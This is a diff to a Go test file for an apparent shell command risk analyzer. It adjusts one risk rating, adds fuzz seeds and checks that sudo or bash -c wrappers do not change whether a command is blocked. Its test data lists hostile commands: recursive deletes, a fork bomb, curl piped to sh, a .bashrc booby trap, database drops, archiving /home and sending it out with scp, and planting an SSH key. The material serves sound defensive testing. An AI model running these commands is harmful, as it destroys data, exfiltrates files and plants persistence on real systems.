@@ -35,7 +35,7 @@ func TestAnalyzeFindings(t *testing.T) {
 		{"sudo ls", IDSudo, rules.RiskModerate, "bash"},
 		{"git push --force origin main", IDGitForcePush, rules.RiskHigh, "bash"},
 		{"git push --force origin topic", IDGitForcePushAny, rules.RiskModerate, "bash"},
-		{"git clean -fd", IDGitClean, rules.RiskModerate, "bash"},
+		{"git clean -fd", IDGitClean, rules.RiskHigh, "bash"},
 		{"Remove-Item -Recurse -Force C:\\", IDWinRmRecursive, rules.RiskCritical, "powershell"},
 		{"rd /s /q C:\\", IDWinRmRecursive, rules.RiskCritical, "cmd"},
 		{"echo 'alias sudo=\"rm -rf /var/*\"' >> /root/.bashrc", IDRmRoot, rules.RiskCritical, "bash"},
@@ -129,7 +129,9 @@ func TestConcurrentUse(t *testing.T) {
 
 func FuzzAnalyze(f *testing.F) {
 	for _, s := range []string{"rm -rf /", "cd .. && ls", ":(){ :|:& };:", "curl x | sh", "git push -f origin main",
-		"Remove-Item -Recurse -Force C:\\", "bash -c 'rm -rf ~'", "f(){ f; }; f", "find / -exec rm {} \\;", "echo $((1+2))", "a=$(b) c"} {
+		"Remove-Item -Recurse -Force C:\\", "bash -c 'rm -rf ~'", "f(){ f; }; f", "find / -exec rm {} \\;", "echo $((1+2))", "a=$(b) c",
+		"aws s3 rb s3://b --force", "psql -c 'DROP TABLE t'", "echo 'DROP DATABASE d' | psql", "touch -r /bin/ls x",
+		"tar czf /tmp/a.tgz /home/* && scp /tmp/a.tgz h:", "echo k >> ~/.ssh/authorized_keys", "git branch -D x"} {
 		f.Add(s)
 	}
 	parser := syntax.NewParser()
@@ -148,29 +150,61 @@ func FuzzAnalyze(f *testing.F) {
 			_, ok := LookupRule(x.ID)
 			require.True(t, ok, x.ID)
 		}
-		// Wrapping a parseable command in sudo never lowers the verdict.
-		if strings.ContainsAny(cmd, "\\\x00") || strings.HasPrefix(strings.TrimSpace(cmd), "-") {
+		// A command that parses gets the same verdict (blocked at high or
+		// not) when run through sudo or bash -c: wrappers are seen through.
+		if strings.ContainsRune(cmd, '\x00') {
 			return
 		}
 		if _, err := parser.Parse(strings.NewReader(cmd), ""); err != nil {
 			return
 		}
-		if _, err := parser.Parse(strings.NewReader("sudo "+cmd), ""); err != nil {
-			return
+		blocked := MaxRisk(fs) >= rules.RiskHigh
+		wraps := []string{"bash -c " + shellQuote(cmd)}
+		if simpleStart(parser, cmd) {
+			wraps = append(wraps, "sudo "+cmd)
 		}
-		require.GreaterOrEqual(t, MaxRisk(Analyze("sudo "+cmd)), MaxRisk(fs), "sudo lowered the verdict of %q", cmd)
+		for _, wrapped := range wraps {
+			if _, err := parser.Parse(strings.NewReader(wrapped), ""); err != nil {
+				continue
+			}
+			got := MaxRisk(Analyze(wrapped)) >= rules.RiskHigh
+			require.Equal(t, blocked, got, "%q blocked=%v but %q blocked=%v", cmd, blocked, wrapped, got)
+		}
 	})
+}
+
+// simpleStart: cmd parses and is one statement that starts with a plain
+// command word, so `sudo CMD` wraps that command (not an option of sudo,
+// an assignment, a comment or a compound that sudo cannot run).
+func simpleStart(p *syntax.Parser, cmd string) bool {
+	f, err := p.Parse(strings.NewReader(cmd), "")
+	if err != nil || len(f.Stmts) != 1 || len(f.Stmts[0].Redirs) > 0 || f.Stmts[0].Background || f.Stmts[0].Negated {
+		return false
+	}
+	ce, ok := f.Stmts[0].Cmd.(*syntax.CallExpr)
+	if !ok || len(ce.Assigns) > 0 || len(ce.Args) == 0 {
+		return false
+	}
+	first := ce.Args[0].Lit()
+	return first != "" && !strings.HasPrefix(first, "-") && isName(strings.ReplaceAll(strings.ReplaceAll(first, "-", "_"), ".", "_"))
+}
+
+// shellQuote single-quotes s for a POSIX shell, closing and reopening
+// the quotes around each quote inside s.
+func shellQuote(s string) string {
+	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
 }
 
 var benchCmds = map[string]string{
 	"short_benign":  "ls -la src/",
 	"long_compound": `cd /work/app && git fetch origin && git checkout -b feature/x origin/main && npm ci && npm run lint && npm test -- --coverage | tee /tmp/test.log && docker build -t app:dev . && echo "done: $(date)"`,
 	"dangerous":     "sudo bash -c 'rm -rf --no-preserve-root /'",
+	"cloud_delete":  "aws s3 rm s3://acme-prod-logs/ --recursive --exclude '*.keep'",
 	"powershell":    "Get-ChildItem -Path C:\\Users -Recurse | Where-Object { $_.Length -gt 1MB } | Remove-Item -Force",
 }
 
 func BenchmarkAnalyze(b *testing.B) {
-	for _, name := range []string{"short_benign", "long_compound", "dangerous", "powershell"} {
+	for _, name := range []string{"short_benign", "long_compound", "dangerous", "cloud_delete", "powershell"} {
 		cmd := benchCmds[name]
 		b.Run(name, func(b *testing.B) {
 			b.ReportAllocs()
